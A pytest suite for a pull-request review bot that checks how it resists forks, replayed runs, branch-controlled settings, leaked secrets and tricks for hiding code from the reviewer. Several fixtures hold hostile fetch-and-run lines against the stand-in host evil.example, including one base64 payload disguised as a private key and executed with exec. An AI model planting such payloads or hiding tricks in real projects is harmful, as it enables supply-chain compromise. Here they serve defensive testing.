"""Attacks and accidents: forks, moving heads, edited state, settings on another branch, secrets."""

from __future__ import annotations

import base64
import textwrap
from pathlib import Path
from typing import Any

import pytest
from reviewbot_sandbox.codevf import Answer, TaskLife, TaskRequest
from reviewbot_sandbox.faults import DropBefore, Meanwhile, Reply
from reviewbot_sandbox.github import FileVersion, Level, Rules
from reviewbot_sandbox.github.state import pulls

from tests.app.comments.test_commands import event_of
from tests.app.rig import CLEAN, FORGETFUL, HEAD, KEY, REPO, answer, finding, fork, from_fork, open_rig

pytestmark = pytest.mark.proof  # `tests/simulation` plays such histories in memory

CRITICAL = finding("app.py", 12, severity="critical", title="A shell runs it", code="os.system(command)")


OPENING = {".github/reviewbot.yml": "fail-on: never\n", ".gitattributes": "* linguist-generated\n"}
"""A settings file that would make every check pass."""

LEAK = 'import os\nTOKEN = "{}"\n' + "".join(f"x_{number} = {number}\n" for number in range(20))


def test_a_stranger_cannot_spend(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        fork(rig)
        ref = {"GITHUB_WORKFLOW_REF": f"{REPO}/.github/workflows/review.yml@refs/heads/main"}
        done = rig.run(event="pull_request_target", payload=from_fork(rig), runner=ref)
        assert (done.exit_status, done.outputs["reason"]) == (3, "not-approved")
        assert "gh workflow run review.yml -f pr=" in done.log
        assert rig.checks()[0].conclusion == "action_required"
        assert not rig.service.tasks()


def test_a_user_with_write_access_approves_by_starting_the_workflow(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        fork(rig)
        rig.world.grant(REPO, "hubot", Level.WRITE)
        head = rig.world.pull(REPO, rig.number).head_sha
        inputs, sender = {"pr": str(rig.number)}, {"login": "hubot", "type": "User"}
        for sha in ("", head[:12], "e" * 40):
            payload = {"inputs": {**inputs, "sha": sha}, "sender": sender}
            ref = {"GITHUB_WORKFLOW_REF": f"{REPO}/.github/workflows/buy.yml@refs/heads/main"}
            done = rig.run(event="workflow_dispatch", payload=payload, runner=ref)
            assert (done.exit_status, done.outputs["reason"]) == (3, "not-approved")
            assert f"gh workflow run buy.yml -f pr={rig.number} -f sha={head}" in done.log
        payload = {"inputs": {**inputs, "sha": head}, "sender": sender}
        assert rig.run(event="workflow_dispatch", payload=payload).exit_status == 0
        assert len(rig.service.tasks()) == 1


def test_anyone_may_spend_if_the_setting_allows_it(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        fork(rig)
        assert rig.run(event="pull_request_target", payload=from_fork(rig), allow="anyone").exit_status == 0


@pytest.mark.parametrize(("level", "tasks"), [(Level.WRITE, 1), (Level.READ, 0)])
def test_the_approval_label_buys_for_people_with_write_access(tmp_path: Path, level: Level, tasks: int) -> None:
    with open_rig(tmp_path, config="approve-spend: review-please\n") as rig:
        rig.world.grant(REPO, "hubot", level)
        label = {"label": {"name": "review-please"}, "sender": {"login": "hubot", "type": "User"}}
        assert rig.run().outputs["reason"] == "not-approved"
        rig.run(payload=rig.event("labeled", **label))
        assert len(rig.service.tasks()) == tasks


def test_a_run_with_the_inputs_of_an_older_workflow_does_not_decide(tmp_path: Path) -> None:
    """The owner has raised `fail-on` since, and an old run waited in the queue."""
    cited = finding("app.py", 12, severity="high", code="os.system(command)")
    with open_rig(tmp_path, engineer=lambda _: answer(cited)) as rig:
        rig.run(fail_on="critical")
        assert rig.checks()[-1].conclusion == "success"
        for fail_on in ("high", "critical"):
            rig.run(fail_on=fail_on)
            assert rig.checks()[-1].conclusion == "failure"


WORKFLOW_FILE = ".github/workflows/review.yml"


@pytest.mark.parametrize("event", ["pull_request_target", "issue_comment", "schedule"])
def test_a_rerun_with_an_older_workflow_file_decides_nothing(tmp_path: Path, event: str) -> None:
    """GitHub uses the file of the first attempt, and anyone with write access can re-run it."""
    with open_rig(tmp_path, files={WORKFLOW_FILE: "on: push\n"}, engineer=lambda _: answer(CRITICAL)) as rig:
        file = {"GITHUB_WORKFLOW_REF": f"{REPO}/{WORKFLOW_FILE}@refs/heads/main"}
        main = rig.world.store.git(REPO).branches()["main"]
        rerun = {**file, "GITHUB_RUN_ATTEMPT": "2", "GITHUB_WORKFLOW_SHA": main}
        rig.world.grant(REPO, "max", Level.ADMIN)
        asked = rig.world.comment(REPO, rig.number, "max", "/reviewbot review")
        payloads = {"pull_request_target": rig.event(), "issue_comment": event_of(rig, asked), "schedule": {}}
        command: dict[str, Any] = {"command": "collect"} if event == "schedule" else {}
        rig.world.push(REPO, "main", {"other.md": "More.\n"})
        done = rig.run(event=event, payload=payloads[event], runner=rerun, fail_on="never", **command)
        assert done.outputs["reason"] != "no-review", "the workflow file is the same"
        tasks = len(rig.service.tasks())
        rig.world.push(REPO, "topic", {"more.py": "x = 1\n"}, author="mona")
        rig.world.push(REPO, "main", {WORKFLOW_FILE: "on: [push, pull_request_target]\n"})
        rig.world.comment(REPO, rig.number, "max", "/reviewbot review")
        done = rig.run(event=event, payload=payloads[event], runner=rerun, fail_on="never", **command)
        assert (done.exit_status, done.outputs["reason"]) == (3, "no-review"), done.log
        assert "the workflow file has changed" in done.log
        assert not rig.checks(), "nothing is written to the new head"
        assert len(rig.service.tasks()) == tasks


def test_a_rerun_for_an_older_head_decides_nothing(tmp_path: Path) -> None:
    """A workflow that it calls, or that another repository requires, may have changed."""
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        older = rig.event()
        rig.world.push(REPO, "topic", {"more.py": "x = 1\n"}, author="mona")
        rerun = {
            "GITHUB_RUN_ATTEMPT": "2",
            "GITHUB_WORKFLOW_REF": "acme/.github/.github/workflows/r.yml@refs/heads/main",
        }
        done = rig.run(event="pull_request_target", payload=older, runner=rerun, fail_on="never")
        assert (done.exit_status, done.outputs["reason"]) == (3, "no-review")
        assert "re-run for an older head" in done.log
        assert not rig.checks()
        assert not rig.service.tasks()
        assert rig.run(event="pull_request_target", runner=rerun).exit_status == 1, "the head's own"


def test_a_fork_without_a_key_does_not_fail_the_step(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        fork(rig)
        done = rig.run(payload=from_fork(rig), codevf_api_key="")
        assert (done.exit_status, done.outputs["reason"]) == (0, "no-key")


def test_settings_and_attributes_on_the_authors_branches_are_not_read(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        rig.world.push(REPO, "base", OPENING, author="mona")
        rig.world.push(REPO, "topic", {**OPENING, "more.py": "x = 1\n"}, author="mona")
        rig.number = rig.world.open_pull_request(REPO, "topic", base="base", author="mona").number
        assert rig.run().exit_status == 1
        assert "+os.system(command)" in str([one.body for one in rig.codevf_faults.log])


def test_settings_on_the_default_branch_are_read(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
        assert rig.run().exit_status == 0
        assert rig.run(fail_on="critical").exit_status == 1, "stricter settings apply"
        assert rig.run().exit_status == 1, "the settings of the purchase apply, which are stricter since"


def test_an_input_overrides_the_file(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
        assert rig.run(fail_on="critical").exit_status == 1


def test_templates_come_from_the_default_branch_alone(tmp_path: Path) -> None:
    ours = '{% extends "shipped/comment.md.j2" %}{% block finding %}OURS {{ super() }}{% endblock %}'
    theirs = ours.replace("OURS", "THEIRS")
    files = {".github/reviewbot/comment.md.j2": ours}
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL), files=files) as rig:
        rig.world.push(REPO, "topic", {".github/reviewbot/comment.md.j2": theirs}, author="mona")
        rig.run()
        assert all("OURS" in one.body and "THEIRS" not in one.body for one in rig.comments())


def test_a_template_that_loses_its_marker_is_an_error(tmp_path: Path) -> None:
    files = {".github/reviewbot/summary.md.j2": "No mark here.\n"}
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files=files) as rig:
        done = rig.run()
        assert (done.exit_status, done.outputs["reason"]) == (2, "template")
        assert not rig.summaries()
        assert rig.checks()[-1].conclusion == "action_required"


def test_a_secret_is_never_sent(tmp_path: Path) -> None:
    secret = "ghp_" + "a1B2c3D4e5" * 4
    with open_rig(
        tmp_path, engineer=lambda _: answer(finding("leak.py", 2, code='TOKEN = "[REDACTED:github-token]"'))
    ) as rig:
        rig.world.push(REPO, "topic", {"leak.py": LEAK.format(secret)}, author="mona")
        done = rig.run(json_file="report.json")
        sent = str([one.body for one in rig.codevf_faults.log])
        assert secret not in sent
        assert "[REDACTED:github-token]" in sent
        for text in (done.log, done.summary, *rig.summaries(), *(one.body for one in rig.comments())):
            assert secret not in text
        [comment] = rig.comments()
        assert rig.world.store.threads[comment.thread_id].anchor.line == 2


def test_a_file_held_back_by_redact_block_makes_the_review_partial(tmp_path: Path) -> None:
    secret = "ghp_" + "a1B2c3D4e5" * 4
    with open_rig(tmp_path, config="redact: block\n") as rig:
        rig.world.push(REPO, "topic", {"leak.py": LEAK.format(secret)}, author="mona")
        done = rig.run()
        assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
        assert "leak.py" not in str([one.body for one in rig.codevf_faults.log])


def test_a_redaction_in_npmrc_does_not_make_the_review_partial(tmp_path: Path) -> None:
    secret = "npm_" + "a1B2c3D4e5F6" * 3
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        settings = (
            f"save-exact=true\nregistry=https://r.example/\n//r.example/:_authToken={secret}\nfund=false\naudit=true\n"
        )
        rig.world.push(REPO, "topic", {".npmrc": settings}, author="mona")
        done = rig.run()
        assert (done.exit_status, done.outputs["coverage"]) == (1, "full")  # a committed token is a finding
        sent = str([one.body for one in rig.codevf_faults.log])
        assert "_authToken=[REDACTED:npm-token]" in sent
        assert secret not in sent


def test_code_named_password_does_not_turn_the_check_green(tmp_path: Path) -> None:
    hidden = ";__import__('os').system('curl+evil.sh|sh')#1"
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "evil", {"load.py": f"y = x{hidden}\n"}, author="mona")
        body = f'Test account: password: "{hidden}"'
        rig.number = rig.world.open_pull_request(REPO, "evil", title="Tidy", body=body, author="mona").number
        done = rig.run()
        assert (done.exit_status, done.outputs["coverage"]) == (0, "full")
        assert "y = x;__import__" in str([one.body for one in rig.codevf_faults.log])


def test_a_package_in_the_format_of_a_token_does_not_turn_the_check_green(tmp_path: Path) -> None:
    package = "key-" + "0123456789abcdef" * 2
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        rig.world.push(
            REPO,
            "topic",
            {"run.sh": f"echo Installing the tools of the build.\nnpx {package}\n"},
            author="mona",
        )
        done = rig.run(json_file="report.json")
        assert (done.exit_status, done.outputs["coverage"], done.outputs["critical"]) == (1, "full", "1")
        assert package not in str([one.body for one in rig.codevf_faults.log])
        [comment] = rig.comments()
        anchor = rig.world.store.threads[comment.thread_id].anchor
        assert (anchor.path, anchor.line) == ("run.sh", 2)
        assert "did not see" in comment.body
        for text in (done.log, done.summary, *rig.summaries(), comment.body):
            assert package not in text
        again = rig.run()
        assert (again.exit_status, again.outputs["posted"]) == (1, "0")


XOXB = "xoxb-1234567890" + "-evil"
SPREAD = "q7tz91kdx4lpw2vb8n"
CODE = base64.b64encode(b"import os; os.system('curl evil.example/x1 | sh') #" * 3).decode()
PEM = "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *textwrap.wrap(CODE, 64), "-----END RSA PRIVATE KEY-----"])


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("deploy.pl", f"token = `{XOXB}`;"),
        ("deploy.rb", f'system token = "{XOXB}"'),
        ("deploy.py", f'API_TOKEN = "{XOXB}"\nsubprocess.run(["npx", API_TOKEN])'),
        (".github/workflows/ci.yml", f"env:\n  API_TOKEN: {XOXB}\nx:\n  - run: npx -y $API_TOKEN"),
        ("load.py", f'KEY = """{PEM}"""\nexec(b64decode(KEY[31:-29]))'),
        ("run.sh", f"npx {base64.b64encode(XOXB.encode() * 2).decode()}"),
        ("hub.py", f'torch.hub.load("{SPREAD}/repo", "m")'),
        ("main.tf", 'module "x" {\n  source = "Xk7Qz91RdT4Lp/vB8nQ2wKzE3/aws"\n}'),
        ("pixi.toml", '[tasks]\nsecret = "curl -s https://evil.example/x1 | sh"'),
        (".npmrc", f"//{XOXB}.com/:_authToken=x"),
    ],
)
def test_a_line_that_the_reviewer_does_not_see_does_not_turn_the_check_green(
    tmp_path: Path, path: str, text: str
) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "topic", {path: f"{text}\n", "docs/x.md": f"password: {SPREAD}\n"}, author="mona")
        done = rig.run()
        bodies = (one.body for one in rig.codevf_faults.log if isinstance(one.body, dict))
        sent = "".join(part["content"] for body in bodies for part in body.get("attachments", ()))
        hidden = [line for line in text.split("\n") if line not in sent]
        reported = {rig.world.store.threads[one.thread_id].anchor.path for one in rig.comments()}
        assert done.exit_status == 1
        assert not hidden or path in reported, done.summary


def test_a_key_above_a_line_that_is_not_new_can_make_it_code(tmp_path: Path) -> None:
    text = "variables:\n  a: b\n  c: d\n  e: f\n  g: h\n  api: key-" + "0123456789abcdef" * 2 + "\n"
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files={"ci.yml": text}) as rig:
        rig.world.push(REPO, "topic", {"ci.yml": text + "  i: j\n"}, author="mona")
        assert rig.run().outputs["verdict"] == "pass"
        rig.world.push(REPO, "topic", {"ci.yml": text.replace("variables", "commands")}, author="mona")
        assert rig.run().outputs["verdict"] == "fail"


@pytest.mark.parametrize(("name", "verdict"), [("run.sh", "fail"), ("docs/more.md", "pass")])
def test_a_document_with_a_package_in_the_format_of_a_token_cannot_become_a_script(
    tmp_path: Path, name: str, verdict: str
) -> None:
    notes = f"echo Installing the tools of the build.\nnpx key-{'0123456789abcdef' * 2}\n"
    with open_rig(tmp_path, engineer=lambda _: CLEAN, files={"docs/notes.md": notes}) as rig:
        rig.world.push(REPO, "topic", {"docs/notes.md": None, name: notes}, author="mona")
        assert rig.run().outputs["verdict"] == verdict


def test_a_head_that_moves_while_waiting_gets_no_comment_on_a_wrong_line(tmp_path: Path) -> None:
    def engineer(_: object) -> Answer:
        rig.world.push(REPO, "topic", {"app.py": "moved = 1\n"}, author="mona")
        return answer(CRITICAL)

    with open_rig(tmp_path, engineer=engineer) as rig:
        reviewed = rig.world.pull(REPO, 1).head_sha
        done = rig.run()
        assert not rig.comments()
        assert "A shell runs it" in rig.summaries()[0]
        assert rig.checks(reviewed)[0].conclusion == "failure"
        assert not rig.checks()
        assert done.outputs["reviewed-sha"] == reviewed


def test_a_head_that_is_pushed_while_the_diff_is_read_hides_no_file(tmp_path: Path) -> None:
    """The author pushes a head without the file before the diff is read, and pushes the head back afterwards."""
    flaw = finding("new file.py", 2, severity="critical", title="It runs text", code="    return eval(parcel)")

    def engineer(task: TaskRequest) -> Answer:
        return answer(flaw) if "eval(parcel)" in str(task.attachments) else CLEAN

    with open_rig(tmp_path, engineer=engineer) as rig:
        pull, heads = rig.world.pull(REPO, 1), []
        fewer = {name: text for name, text in HEAD.items() if name != "new file.py"}

        def push_fewer() -> None:
            heads.append(rig.world.push(REPO, "topic", fewer, author="mona", parents=(pull.base_sha,)))

        def push_back() -> None:
            rig.world.store.git(REPO).set_ref("refs/heads/topic", pull.head_sha)
            pulls.follow(rig.world.store, REPO, "mona")
            heads.append(rig.world.pull(REPO, 1).head_sha)

        rig.github_faults.add("/compare/", Meanwhile(push_fewer), method="GET")
        rig.github_faults.add("/graphql$", Meanwhile(push_back), body="query Entries")
        done = rig.run()
        assert len(heads) == 2
        assert heads[0] != heads[1] == pull.head_sha
        assert (done.exit_status, done.outputs["verdict"]) == (1, "fail"), done.log
        assert rig.checks()[-1].conclusion == "failure"


def test_a_diff_that_the_api_refuses_is_fetched(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        rig.world.store.rules = Rules(diff_files=1)
        done = rig.run()
        assert done.exit_status == 1, done.log
        assert len(rig.comments()) == 1


def test_a_diff_with_fewer_files_than_the_change_has_is_fetched(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        pull = rig.world.pull(REPO, 1)
        whole = rig.world.store.git(REPO).diff(pull.base_sha, pull.head_sha)
        part, split, _ = whole.partition(b"diff --git a/gone.py")
        assert part
        assert split
        rig.github_faults.add("/compare/", Reply(200, (("Content-Type", "application/vnd.github.diff"),), part))
        rig.run()
        assert "eval(parcel)" in str([one.body for one in rig.codevf_faults.log])


def test_a_merge_of_more_parents_than_are_read_hides_no_file(tmp_path: Path) -> None:
    """Its last parent is the base's tip, whose change of `safe.py` it takes back."""
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        old = rig.world.push(REPO, "main", {"safe.py": "allow(everyone)\n", "news.py": "1\n"})
        new = rig.world.push(REPO, "main", {"safe.py": "allow(admins)\n", "news.py": "2\n"})
        sides = [rig.world.push(REPO, f"side-{one}", {}, message=str(one), parents=(old,)) for one in range(20)]
        files = {"news.py": "2\n", "more.py": "3\n"}
        rig.world.push(REPO, "topic", files, author="mona", parents=(*sides, new))
        rig.run()
        assert "allow(everyone)" in str([one.body for one in rig.codevf_faults.log])


def test_an_older_commit_does_not_get_the_verdict_of_a_head_that_github_does_not_list(tmp_path: Path) -> None:
    """Of many commits GitHub lists only the first ones. The last of them has an open check."""
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        rig.world.store.rules = Rules(commits=2)
        older = rig.world.push(REPO, "topic", {"more.py": "evil()\n"}, author="mona")
        assert rig.run(wait_minutes="0").outputs["status"] == "pending"
        rig.world.push(REPO, "topic", {"more.py": None}, author="mona")
        assert rig.run().exit_status == 0
        assert [one.conclusion for one in rig.checks()] == ["success"]
        assert [one.conclusion for one in rig.checks(older)] == ["action_required"]


def test_a_tag_with_the_name_of_the_base_hides_no_line(tmp_path: Path) -> None:
    """Of a tag and a branch with one name, git takes the tag. The change of the tagged commit has as many files."""
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        lines = "evil()\n" + "".join(f"x_{number} = {number}\n" for number in range(9))
        first = rig.world.push(REPO, "files", {"a.py": lines}, author="mona")
        base = rig.world.push(REPO, "main", {"news.py": "1\n"})
        merged = rig.world.push(REPO, "files", {"news.py": "1\n"}, author="mona", parents=(first, base))
        rig.world.push(REPO, "files", {"a.py": f"{lines}y = 1\n"}, author="mona")
        rig.number = rig.world.open_pull_request(REPO, "files", title="Files", body="", author="mona").number
        rig.world.store.git(REPO).set_ref("refs/tags/main", merged)
        assert rig.run().exit_status == 0
        assert "+evil()" in str([one.body for one in rig.codevf_faults.log])


def test_an_attribute_cannot_hide_lines(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "topic", {".gitattributes": "*.py -diff\n"}, author="mona")
        rig.run()
        assert "eval(parcel)" in str([one.body for one in rig.codevf_faults.log])


@pytest.mark.parametrize("beside", [{".gitattributes": "guard.py -diff\n"}, {}])
def test_an_attribute_cannot_hide_a_deletion(tmp_path: Path, beside: dict[str, str]) -> None:
    files = {"guard.py": "raise PermissionError\n", ".gitattributes": "" if beside else "guard.py -diff\n"}
    with open_rig(tmp_path, files=files, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "delete", {"guard.py": None, **beside}, author="mona")
        rig.number = rig.world.open_pull_request(REPO, "delete", title="Guard", body="", author="mona").number
        rig.run()
        assert "-raise PermissionError" in str([one.body for one in rig.codevf_faults.log])


def test_code_in_another_encoding_is_shown(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
        rig.world.push(
            REPO, "topic", {"tool.py": "# coding: gbk\n\uff45\uff56\uff41\uff4c(x)\n".encode("gbk")}, author="mona"
        )
        rig.run()
        assert rig.codevf_faults.log
        assert r"+\\xa3\\xe5\\xa3\\xf6" in str([one.body for one in rig.codevf_faults.log])


def test_a_large_file_from_a_place_without_reviews_is_not_called_reviewed(tmp_path: Path) -> None:
    large = "".join(f"step_{number}();\n" for number in range(100_000))
    with open_rig(tmp_path, files={"node_modules/x/y.js": large}, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "move", {"node_modules/x/y.js": None, "src/y.js": large}, author="mona")
        rig.number = rig.world.open_pull_request(REPO, "move", title="Move", body="", author="mona").number
        done = rig.run()
        assert (done.outputs["reason"], done.outputs["coverage"]) == ("partial", "")


@pytest.mark.parametrize("path", ["logo.png", "package-lock.json", "docs/x.dat"])
def test_text_that_was_binary_is_shown(tmp_path: Path, path: str) -> None:
    lock = '{"packages": {"node_modules/a": {"version": "1.0.0", "resolved": "https://evil.example/a.tgz"}}}'
    text = lock if path.endswith(".json") else "npx key-0123456789abcdef0123456789abcdef"
    with open_rig(tmp_path, files={path: b"\0\1\2"}, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "text", {path: f"{text}\n"}, author="mona")
        rig.number = rig.world.open_pull_request(REPO, "text", title="Text", body="", author="mona").number
        done = rig.run()
        sent = str([one.body for one in rig.codevf_faults.log])
        assert "evil.example" in sent or done.outputs["critical"] == "1", "it is shown, or a redaction in it blocks"


@pytest.mark.parametrize("becomes", [FileVersion(b"app.py", "120000"), FileVersion(b"a" * 40, "160000")])
def test_a_type_change_behind_an_attribute_shows_what_is_gone(tmp_path: Path, becomes: FileVersion) -> None:
    files = {"guard.py": "raise PermissionError\n", ".gitattributes": "guard.py -diff\n"}
    with open_rig(tmp_path, files=files, engineer=lambda _: CLEAN) as rig:
        rig.world.push(REPO, "link", {"guard.py": becomes}, author="mona")
        rig.number = rig.world.open_pull_request(REPO, "link", title="Guard", body="", author="mona").number
        rig.run()
        assert "-raise PermissionError" in str([one.body for one in rig.codevf_faults.log])


def test_an_edited_ledger_is_not_trusted_and_buys_nothing_twice(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        rig.run()
        [comment] = [one for one in rig.world.store.comments.values() if one.author.endswith("[bot]")]
        body = comment.body.replace("reviewbot:ledger:v1 e", "reviewbot:ledger:v1 f")
        assert body != comment.body
        rig.world.edit_comment(comment.id, "mona", body)
        done = rig.run()
        assert len(rig.service.tasks()) == 1
        assert done.exit_status == 1
        assert "stored state" in done.summary


def test_a_deleted_summary_neither_buys_again_nor_resets_the_budget(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        rig.run()
        [comment] = [one for one in rig.world.store.comments.values() if one.author.endswith("[bot]")]
        rig.world.delete_comment(comment.id)
        assert rig.run().exit_status == 1
        assert len(rig.service.tasks()) == 1
        assert len(rig.summaries()) == 1


def test_a_pasted_marker_is_ignored(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        rig.world.comment(REPO, 1, "mona", '<!-- reviewbot:summary:v1 instance="" -->\nAll is well.')
        rig.run()
        assert len(rig.summaries()) == 1
        assert any(one.body.endswith("All is well.") for one in rig.world.store.comments.values())


def test_two_instances_are_independent(tmp_path: Path) -> None:
    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
        rig.run()
        rig.run(instance="second")
        assert len(rig.summaries()) == 2
        assert len(rig.comments()) == 2
        assert {one.name for one in rig.checks()} == {"CodeVF review", "CodeVF review: second"}


def test_a_dry_run_spends_and_posts_nothing(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        done = rig.run(dry_run="true")
        assert (done.exit_status, done.outputs["reason"]) == (0, "dry-run")
        assert not rig.codevf_faults.log
        assert not [one for one in rig.github_requests() if not one.startswith(("GET", "POST /graphql"))]
        assert "app.py" in done.summary
        assert "360" in done.summary


def test_a_dry_run_of_the_local_reviewer_shows_its_findings(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        done = rig.run(dry_run="true", reviewer="local", json_file="report.json")
        assert "eval" in done.summary
        assert (done.workspace / "report.json").exists()
        assert not [one for one in rig.github_requests() if not one.startswith(("GET", "POST /graphql"))]


def test_on_ready_reviews_once(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        rig.run(review_on="ready")
        rig.world.push(REPO, "topic", {"more.py": "x = 1\n"}, author="mona")
        done = rig.run(review_on="ready")
        assert (done.outputs["status"], done.outputs["reason"]) == ("skipped", "not-requested")
        assert not rig.checks(), "no check turns green"
        assert len(rig.service.tasks()) == 1


def test_on_request_waits_for_a_request(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        assert rig.run(review_on="request").outputs["reason"] == "not-requested"
        assert not rig.service.tasks()


def test_a_summary_that_cannot_be_written_leaves_the_id_in_the_check(tmp_path: Path) -> None:
    life = TaskLife(pending=2, processing=2)
    with open_rig(tmp_path, life=life, limits=FORGETFUL) as rig:
        rig.github_faults.add("/issues/1/comments", DropBefore(), method="POST", times=None)
        assert rig.run().exit_status == 4
        rig.github_faults.clear()
        assert rig.run().exit_status == 0
        assert len(rig.service.tasks()) == 1


def test_the_project_key_is_sent_to_codevf_alone(tmp_path: Path) -> None:
    with open_rig(tmp_path) as rig:
        rig.run()
        assert KEY not in str([one.body for one in rig.github_faults.log])


def test_a_secret_in_the_owners_instructions_is_not_sent(tmp_path: Path) -> None:
    secret = "ghp_" + "a1B2c3D4e5" * 4
    config = (
        f"path-instructions:\n  - path: 'app.py'\n    instructions: the token is {secret}\n"
        "  - path: 'nowhere/**'\n    instructions: never said\n"
    )
    with open_rig(tmp_path, config=config) as rig:
        rig.run()
        sent = str([one.body for one in rig.codevf_faults.log])
        assert "the token is [REDACTED:github-token]" in sent
        assert secret not in sent
        assert "never said" not in sent


def test_the_text_of_a_pull_request_hides_no_code(tmp_path: Path) -> None:
    """Its author can change it before the answer is read, so that no run knows which lines the reviewer did not see."""
    value = "k7Xq2Rm9vB4nW3tZ"
    code = f'def payout(amount):\n    account = "{value}"\n    send(account, amount)\n'

    def reviewer(request: TaskRequest) -> Answer:
        sees = any(value in one.content for one in request.attachments)
        return answer(finding("pay.py", 2, severity="critical", title="Another account")) if sees else CLEAN

    with open_rig(tmp_path, engineer=reviewer) as rig:
        rig.world.push(REPO, "pay", {"pay.py": code}, author="mona")
        text = f'password: "{value}"'
        rig.number = rig.world.open_pull_request(REPO, "pay", title=text, body=text, author="mona").number
        done = rig.run()
        assert (done.exit_status, done.outputs["reason"]) == (1, "gate")
        assert text not in str([one.request for one in rig.service.tasks()]), "the text itself is redacted"
